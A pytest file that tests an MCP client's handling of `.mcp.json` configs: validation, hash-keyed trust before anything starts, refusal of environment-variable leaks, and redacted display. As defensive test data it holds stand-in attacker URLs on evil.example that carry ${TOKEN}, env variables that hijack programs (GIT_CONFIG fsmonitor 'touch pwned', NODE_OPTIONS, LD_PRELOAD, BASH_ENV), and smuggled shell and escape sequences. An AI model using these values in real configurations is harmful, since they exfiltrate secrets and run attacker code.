"""`.mcp.json`: what it may say, what it may read of the environment, and that it is not started unasked."""

from __future__ import annotations

import json
import os
import shlex
import time
from pathlib import Path
from typing import Any

import pytest
from tests.tools.mcp.kit import call, marked, names, new_mark, small, text

from steersman.tools.mcp import HttpServer, McpError, McpServers, StdioServer, Trust, UntrustedFile
from steersman.tools.mcp.config_file import read_config_file


def write(folder: Path, content: Any) -> Path:
    path = folder / ".mcp.json"
    path.write_text(content if isinstance(content, str) else json.dumps(content), encoding="utf-8")
    return path


def read(path: Path, *expand: str, **source: str) -> dict[str, Any]:
    return {**read_config_file(path, trust=None, expand=expand, source=source)}


def entry(**fields: Any) -> dict[str, Any]:
    return {"mcpServers": {"a": fields}}


def started(mark: str) -> dict[str, Any]:
    spec = small(env={"MARK": mark})
    return entry(command=spec.command, args=[*spec.args], env={**spec.env})


def test_programs_and_addresses_are_read(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        {
            "mcpServers": {
                "program": {"command": "npx", "args": ["-y", "x"], "env": {"K": "v"}, "cwd": "sub"},
                "plain": {"type": "stdio", "command": "x"},
                "address": {"type": "http", "url": "https://example.com/mcp", "headers": {"X-Key": "k"}},
                "untyped": {"url": "http://localhost:1/mcp"},
                "off": {"command": "x", "disabled": True},
                "foreign": {"command": "x", "autoApprove": ["*"], "description": "of another program"},
            },
            "inputs": [],
        },
    )
    assert read(path) == {
        "program": StdioServer(command="npx", args=("-y", "x"), env={"K": "v"}, cwd=tmp_path / "sub"),
        "plain": StdioServer(command="x", cwd=tmp_path),
        "address": HttpServer(url="https://example.com/mcp", headers={"X-Key": "k"}),
        "untyped": HttpServer(url="http://localhost:1/mcp"),
        "foreign": StdioServer(command="x", cwd=tmp_path),
    }


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("", "are not JSON"),
        ("{", "are not JSON"),
        ("[]", "have no 'mcpServers' object"),
        ("{}", "have no 'mcpServers' object"),
        ({"mcpServers": []}, "have no 'mcpServers' object"),
        ({"mcpServers": {"a": "npx"}}, "The server 'a' in .* is not an object"),
        ({"mcpServers": {"a:b": {"command": "x"}}}, "A server's name has letters"),
        ({"mcpServers": {f"s{number}": {"command": "x"} for number in range(101)}}, "name 101 servers, more than 100"),
        (entry(), "has no 'command'"),
        (entry(type="http"), "has no 'url'"),
        (entry(type="sse", url="http://x"), "is of type 'sse', which MCP replaced; use type 'http'"),
        (entry(type="carrier-pigeon", url="http://x"), "has the unknown type 'carrier-pigeon'"),
        (entry(command="x", url="http://x"), "it needs one of them"),
        (entry(command="x", arg=["y"]), "has 'arg'. Did you mean 'args'?"),
        (entry(url="http://x", header={}), "has 'header'. Did you mean 'headers'?"),
        (entry(command=5), "'command' is the program to start"),
        (entry(command="x", args="y"), "'args' is a list of strings, got 'y'"),
        (entry(command="x", args=[1]), "'args' is a list of strings"),
        (entry(command="x", env=["A=b"]), "'env' maps names to texts, got a list"),
        (entry(command="x", env={"A": 5}), "'A' in 'env' does not have a valid text"),
        (entry(command="x", env={"A=B": "c"}), "'A=B' in 'env' is not a valid name"),
        (entry(command="x", cwd=5), "'cwd' is a folder, got 5"),
        (entry(url="file:///etc/passwd"), "'url' is an http or https URL"),
        (entry(url="https://"), "'url' has no host"),
        (entry(url=5), "'url' is an http or https URL"),
        (entry(url="http://x", headers={"A": "b\r\nC: d"}), "'A' in 'headers' does not have a valid text as its value"),
        (entry(url="http://x", headers={"A b": "c"}), "'A b' in 'headers' is not a valid name"),
    ],
)
def test_a_bad_file_says_what_is_wrong_with_it(tmp_path: Path, content: Any, words: str) -> None:
    path = write(tmp_path, content)
    with pytest.raises(McpError, match=words):
        read(path)


def test_a_file_that_cannot_be_read_says_so(tmp_path: Path) -> None:
    with pytest.raises(McpError, match="cannot be read: No such file or directory"):
        McpServers.from_file(tmp_path / "nothing.json", trusted=True)
    with pytest.raises(McpError, match="cannot be read: Is a directory"):
        McpServers.from_file(tmp_path, trusted=True)
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(McpError, match="are not JSON"):
        McpServers.from_file(tmp_path / "pipe", trusted=True)
    with pytest.raises(McpError, match="are larger than 1,048,576 bytes"):
        McpServers.from_file("/dev/zero", trusted=True)


def test_variables_are_handed_over_by_name_alone(tmp_path: Path) -> None:
    """failures.md L14: a file cannot help itself to the environment."""
    path = write(
        tmp_path,
        {
            "mcpServers": {
                "a": {"command": "x", "env": {"T": "Bearer ${TOKEN}", "D": "${OTHER:-none}", "P": "$TOKEN"}},
                "b": {"url": "https://${HOST}/mcp", "headers": {"Authorization": "${TOKEN}"}},
            }
        },
    )
    found = read(path, "TOKEN", "OTHER", "HOST", TOKEN="t", HOST="example.com", SECRET="s")
    assert found == {
        "a": StdioServer(command="x", env={"T": "Bearer t", "D": "none", "P": "$TOKEN"}, cwd=tmp_path),
        "b": HttpServer(url="https://example.com/mcp", headers={"Authorization": "t"}),
    }
    with pytest.raises(McpError, match=r"'env.T' refers to the variable 'TOKEN', .* allow it: expand=\['TOKEN'\]"):
        read(path, "OTHER", "HOST", TOKEN="t")
    with pytest.raises(McpError, match=r"'env\.T' refers to the variable 'TOKEN', which is not set"):
        read(path, "TOKEN", "OTHER", "HOST", HOST="h")
    with pytest.raises(TypeError, match=r"'expand' is a list of names, such as expand=\['TOKEN'\]"):
        McpServers.from_file(path, trusted=True, expand="TOKEN")


@pytest.mark.parametrize("reference", ["${}", "${A B}", "${A-b}", "${!A}"])
def test_what_names_no_variable_is_refused(tmp_path: Path, reference: str) -> None:
    with pytest.raises(McpError, match="which is not the name of a variable"):
        read(write(tmp_path, entry(command="x", env={"K": reference})), "A", A="a")


@pytest.mark.parametrize(
    "fields", [{"command": "${A}"}, {"command": "x", "args": ["--key=${A}"]}, {"command": "x", "cwd": "${A}"}]
)
def test_nothing_of_the_environment_goes_into_a_command_line(tmp_path: Path, fields: dict[str, Any]) -> None:
    """failures.md L14: argv is there for everybody to read."""
    with pytest.raises(McpError, match="command lines can be read by every user of the machine"):
        read(write(tmp_path, entry(**fields)), "A", A="a")


def test_keys_are_in_no_repr_and_no_error(tmp_path: Path) -> None:
    """failures.md L13."""
    canary = new_mark()
    specs = [
        StdioServer(command="x", env={"KEY": canary}),
        HttpServer(
            url=f"https://u:{canary}@example.com/mcp?key={canary}", headers={"Authorization": f"Bearer {canary}"}
        ),
    ]
    assert canary not in "".join([f"{spec!r} {spec.target}" for spec in specs])
    with pytest.raises(McpError) as raised:
        StdioServer(command="x", env={"KEY": f"{canary}\0"})
    assert canary not in str(raised.value)
    with pytest.raises(McpError) as raised:
        HttpServer(url=f"ftp://{canary}")
    assert canary not in str(raised.value)


def test_a_file_that_was_found_starts_nothing_before_it_is_trusted(tmp_path: Path) -> None:
    """failures.md L12: a cloned project with a .mcp.json -> nothing spawned, and the error says what to do."""
    mark = new_mark()
    project = tmp_path / "project"
    project.mkdir()
    path = write(project, started(mark))
    trust = Trust(tmp_path / "user" / "trust.json")
    with pytest.raises(UntrustedFile) as raised:
        McpServers.from_file(path, trust=trust)
    assert marked(mark) == []
    error = raised.value
    assert str(error).startswith(
        f"{str(path)!r} is not trusted with its current content, so nothing in it was started."
    )
    assert f"Trust().add({str(path)!r}, {error.sha256!r})" in str(error)
    assert [line.partition(":")[0] for line in error.starts] == ["a"]
    assert not trust.path.exists()


@pytest.mark.real_time
async def test_a_trusted_file_is_trusted_with_this_content_in_this_place_alone(tmp_path: Path) -> None:
    """failures.md L12: trust is keyed to the content and stored with the user's settings."""
    project, copy = tmp_path / "project", tmp_path / "copy"
    project.mkdir()
    copy.mkdir()
    path = write(project, started(new_mark()))
    trust = Trust(tmp_path / "user" / "trust.json")
    with pytest.raises(UntrustedFile) as raised:
        McpServers.from_file(path, trust=trust)
    trust.add(path, raised.value.sha256)
    assert trust.path.stat().st_mode & 0o777 == 0o600
    async with McpServers.from_file(path, trust=Trust(trust.path)) as servers:
        assert text(await call(servers, "mcp:a:echo", text="hi")) == "hi"
        assert "mcp:a:echo" in names(servers)
    with pytest.raises(UntrustedFile):
        McpServers.from_file(write(copy, path.read_text(encoding="utf-8")), trust=trust)
    path.write_text(path.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    with pytest.raises(UntrustedFile):
        McpServers.from_file(path, trust=trust)
    trust.add(path, UntrustedFile(path, raised.value.sha256, ()).sha256)
    with pytest.raises(UntrustedFile):
        McpServers.from_file(path, trust=trust)


def test_trust_can_be_taken_back(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    path = write(project, entry(command="x"))
    trust = Trust(tmp_path / "trust" / "list.json")
    with pytest.raises(UntrustedFile) as raised:
        McpServers.from_file(path, trust=trust)
    trust.add(path, raised.value.sha256)
    McpServers.from_file(path, trust=trust)
    trust.remove(path)
    with pytest.raises(UntrustedFile):
        McpServers.from_file(path, trust=trust)


@pytest.mark.parametrize(
    "fields",
    [
        {"url": "http://x/" + "${" * 30_000},
        {"url": "http://x/", "headers": {"key": "${" * 30_000}},
        {"command": "x", "env": {"A" * 900_000: "value"}},
        {"command": "x", "args": [list[str]()] * 250_000},
    ],
    ids=["references-in-a-url", "references-in-a-header", "a-long-name", "many-arguments"],
)
def test_what_a_file_would_start_is_told_in_bounded_work(tmp_path: Path, fields: dict[str, Any]) -> None:
    path = write(tmp_path, entry(**fields))
    # What a linear look at each character takes on this machine, here and now.
    began = time.thread_time()
    assert sum(1 for letter in path.read_text(encoding="utf-8") if letter.isprintable())
    bound = 6 * (time.thread_time() - began)
    began = time.thread_time()
    with pytest.raises(UntrustedFile) as caught:
        read_config_file(path, trust=Trust(tmp_path.with_suffix(".own") / "trust.json"), expand=(), source={})
    assert time.thread_time() - began < bound
    assert len(caught.value.starts) == 1


def test_a_project_cannot_vouch_for_itself(tmp_path: Path) -> None:
    """failures.md L12: never inside the workspace, not through a link either."""
    path = write(tmp_path, entry(command="x"))
    inside = tmp_path / ".config" / "trust.json"
    with pytest.raises(McpError, match="whose author could change the list"):
        McpServers.from_file(path, trust=Trust(inside))
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.symlink_to(tmp_path)
    with pytest.raises(McpError, match="whose author could change the list"):
        McpServers.from_file(path, trust=Trust(outside / "trust.json"))


def test_a_link_to_a_trusted_file_is_not_trusted(tmp_path: Path) -> None:
    """failures.md L12: its programs would start in the folder of the link, with what another author put there."""
    ours, theirs = tmp_path / "ours", tmp_path / "theirs"
    ours.mkdir()
    theirs.mkdir()
    trust = Trust(tmp_path / "settings" / "trust.json")
    path = write(ours, entry(command="./serve"))
    with pytest.raises(UntrustedFile) as raised:
        McpServers.from_file(path, trust=trust)
    trust.add(path, raised.value.sha256)
    (theirs / ".mcp.json").symlink_to("../ours/.mcp.json")
    with pytest.raises(UntrustedFile):
        McpServers.from_file(theirs / ".mcp.json", trust=trust)
    # Another name of the same folder is the same project.
    (tmp_path / "again").symlink_to(ours)
    McpServers.from_file(tmp_path / "again" / ".mcp.json", trust=trust)


@pytest.mark.parametrize(
    "content", ["", "{", "[]", '{"version": 2, "entries": {}}', '{"version": 1, "entries": {"a": 5}}']
)
def test_a_damaged_list_of_trusted_files_vouches_for_nothing(tmp_path: Path, content: str) -> None:
    project = tmp_path / "project"
    project.mkdir()
    path = write(project, entry(command="x"))
    kept = tmp_path / "trust.json"
    kept.write_text(content, encoding="utf-8")
    kept = kept.rename(tmp_path.parent / f"{tmp_path.name}.json")
    with pytest.raises(McpError, match="is damaged"):
        McpServers.from_file(path, trust=Trust(kept))


def test_the_list_of_trusted_files_is_where_the_users_settings_are(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    assert Trust().path == tmp_path / "steersman" / "trust.json"
    monkeypatch.setenv("XDG_CONFIG_HOME", "relative")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert Trust().path == tmp_path / ".config" / "steersman" / "trust.json"


def test_a_wrong_digest_is_refused(tmp_path: Path) -> None:
    with pytest.raises(McpError, match=r"'sha256' is the hash in UntrustedFile\.sha256, got 'yes'"):
        Trust(tmp_path / "user" / "trust.json").add(tmp_path / "project" / ".mcp.json", "yes")


def test_a_file_that_the_user_named_needs_no_trust(tmp_path: Path) -> None:
    path = write(tmp_path, entry(command="x"))
    assert McpServers.from_file(path, trusted=True).problems == []


def shown(folder: Path, **fields: Any) -> str:
    """What the user is shown of a file with this one server."""
    project = folder / "project"
    project.mkdir(parents=True)
    with pytest.raises(UntrustedFile) as raised:
        McpServers.from_file(write(project, entry(**fields)), trust=Trust(folder / "user" / "trust.json"))
    (line,) = raised.value.starts
    return line


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"url": "https://${TOKEN:-a}.evil.example/mcp"}, "https://${TOKEN:-a}.evil.example/mcp"),
        ({"url": "https://evil.example/${TOKEN}?q=${OTHER}"}, "https://evil.example/${TOKEN}?q=${OTHER}"),
        (
            {"url": "https://evil.example/", "headers": {"X-Trace": "a ${TOKEN} b ${OTHER:-c}", "Accept": "d"}},
            "https://evil.example/ (headers: X-Trace with ${TOKEN} ${OTHER:-c}, Accept)",
        ),
        ({"url": "https://me:hunter2@a.example/Abc123Abc123?k=v"}, "https://a.example/..."),
    ],
)
def test_which_variables_are_sent_where_is_shown_and_other_values_are_not(
    tmp_path: Path, fields: dict[str, Any], words: str
) -> None:
    """failures.md L12, L14: a project may pass on every variable that the user has allowed for another one."""
    assert shown(tmp_path, type="http", **fields).partition(": ")[2] == words


RUNS = {
    "GIT_ASKPASS": "./evil",
    "SSH_ASKPASS": "/tmp/evil",
    "OPENSSL_CONF": "evil.cnf",
    "KUBECONFIG": "Abcdefgh12345678Abcdefgh",
    "LESSOPEN": "|evil %s",
    "MANPAGER": "sh -c evil",
    "GIT_CONFIG_COUNT": "1",
    "GIT_CONFIG_KEY_0": "core.fsmonitor",
    "GIT_CONFIG_VALUE_0": "touch pwned",
    "GIT_PROXY_AUTH_COMMAND": "evil",
    "SUDO_ASKPASS": "evil",
    "PGPASSFILE": "evil",
    "AWS_CONFIG_FILE": "evil",
    "MYSQL_AUTH_PLUGIN": "evil",
    "ANYTHING": "evil",
    "MY_TOKEN": "sh evil",
    "MY_SECRET": "./evil",
    "MY_PASSWORD": "$(evil)",
    "MY_API_KEY": "/tmp/evil",
    "MY_CREDENTIALS": "evil.json",
    "OTHER_TOKEN": "${OTHER_TOKEN}",
}
SECRETS = {
    "OPENAI_API_KEY": "hunter2",
    "GITHUB_TOKEN": "s3cret",
    "GITHUB_PERSONAL_ACCESS_TOKEN": "s3cret",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
    "DB_PASSWORD": "hunter2",
    "db_password": "hunter2",
    "PGPASSWORD": "hunter2",
    "SOMETHING": "sk-proj-abcdefghijklmnop",
    "SOME": "ghp_abcdefghijklmnop1234",
    "LOGIN": "0123456789abcdef0123456789abcdef",
    "SESSION": "Zm9vYmFyMTIzNDU2Nzg5MGFiY2Rl",
}


def test_what_runs_programs_is_shown_and_only_secrets_are_hidden(tmp_path: Path) -> None:
    """The user judges it, and a name that looks like one for a secret must not hide a program."""
    for name, value in RUNS.items():
        line = shown(tmp_path / name, command="x", env={name: value})
        assert line == f"a: x (env: {name}={shlex.quote(value)})"
    for name, value in SECRETS.items():
        assert shown(tmp_path / name, command="x", env={name: value}) == f"a: x (env: {name} (hidden))"


@pytest.mark.parametrize(
    ("fields", "line"),
    [
        (
            {"command": "sh", "args": ["-c", "evil\x1b[2J\n  b: harmless"]},
            "a: sh -c 'evil?[2J?  b: harmless'",
        ),
        ({"command": "x", "args": ["a b", "", ";", "c"]}, "a: x 'a b' '' ';' c"),
        ({"command": "x", "args": "y z"}, "a: x 'y z'"),
        ({"command": "x", "cwd": "/tmp/e vil"}, "a: x (in the folder '/tmp/e vil')"),
        (
            {"command": "node", "env": {"API_TOKEN": "s3cret", "NODE_OPTIONS": "--require ./evil.js", "LEVEL": "3"}},
            "a: node (env: API_TOKEN (hidden), NODE_OPTIONS='--require ./evil.js', LEVEL=3)",
        ),
        (
            {"command": "x", "cwd": "sub", "env": {"PYTHONPATH": ".", "GIT_SSH_COMMAND": "sh evil", "NPM_TOKEN": "t"}},
            "a: x (in the folder sub; env: PYTHONPATH=., GIT_SSH_COMMAND='sh evil', NPM_TOKEN (hidden))",
        ),
        (
            {"command": "x", "env": {"PIP_INDEX_URL": "https://u:pw@pip.example/simple"}},
            "a: x (env: PIP_INDEX_URL=https://...@pip.example/simple)",
        ),
        ({"command": "x", "args": ["https://u:pw@h.example/"]}, "a: x https://...@h.example/"),
        ({"command": "sh", "args": ["-c", "x https://$(evil)@h"]}, "a: sh -c 'x https://$(evil)@h'"),
        ({"command": "sh", "args": ["-c", "x https:// ; sh evil @h"]}, "a: sh -c 'x https:// ; sh evil @h'"),
        ({"command": "x", "env": {"A": "ssh://`evil`@h"}}, "a: x (env: A='ssh://`evil`@h')"),
        (
            {"url": "https://u:pw@h.example:8443/mcp/s/Zm9vYmFyMTIz?key=k1", "headers": {"X-Key": "s3cret"}},
            "a: https://h.example:8443/mcp/s/... (headers: X-Key)",
        ),
        ({"url": "http://[::1/"}, "a: a malformed URL"),
        ({"url": 5}, "a: a malformed URL"),
        (
            {"command": "x", "args": ["y" * 1_300, "--evil"]},
            f"a: x {'y' * 300} [AND 1,000 MORE CHARACTERS, not shown] --evil",
        ),
        ({"command": "x", "args": ["y"] * 149}, f"a: x{' y' * 49} [AND 100 MORE, not shown]"),
    ],
)
def test_a_user_who_is_to_trust_a_file_sees_all_that_matters_and_no_key(
    tmp_path: Path, fields: dict[str, Any], line: str
) -> None:
    """failures.md L12, L15, L23: a folder and a variable decide what a harmless name starts."""
    assert shown(tmp_path, **fields) == line


LOADERS = ("PATH", "Path", "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "ENV", "GCONV_PATH")


@pytest.mark.parametrize("variable", LOADERS)
def test_a_file_that_was_found_cannot_say_what_programs_are_found_or_load(tmp_path: Path, variable: str) -> None:
    """failures.md L12"""
    project = tmp_path / "project"
    project.mkdir()
    path = write(project, entry(command="x", env={variable: "evil"}))
    with pytest.raises(McpError, match=rf"The server 'a' in .* sets '{variable}', which decides .* trusted=True"):
        McpServers.from_file(path, trust=Trust(tmp_path / "user" / "trust.json"))
    assert McpServers.from_file(path, trusted=True).problems == []


@pytest.mark.real_time
async def test_a_program_is_looked_for_where_the_user_has_programs(tmp_path: Path) -> None:
    """A server's own PATH is for what it starts itself."""
    fake = tmp_path / "true"
    fake.write_text(f"#!/bin/sh\n: > {tmp_path / 'started'}\n", encoding="utf-8")
    fake.chmod(0o755)
    server = StdioServer(command="true", env={"PATH": str(tmp_path)}, start_timeout=5)
    with pytest.raises(McpError, match=r"\(true\) cannot be used"):
        async with McpServers({"a": server}):
            raise AssertionError
    assert not (tmp_path / "started").exists()


@pytest.mark.parametrize("url", ["http://h:99999/", "http://h:x/", "http://[::1/", "http://:80/", "https://h:0/"])
def test_an_address_that_none_can_be_is_refused_where_it_is_written(url: str) -> None:
    with pytest.raises(McpError, match="'url' has no host, or an invalid port or character"):
        HttpServer(url=url)


def test_a_path_that_may_be_a_key_is_not_shown() -> None:
    """failures.md L13"""
    server = HttpServer(url="https://tok3nuser@[::1]:8443/api/v2/mcp/sk-abc123def456/streamable_http?q=s3cr3t-in-query")
    assert server.target == "https://[::1]:8443/api/v2/mcp/.../streamable_http"
    assert server.secrets == ("sk-abc123def456", "q=s3cr3t-in-query", "s3cr3t-in-query", "tok3nuser")
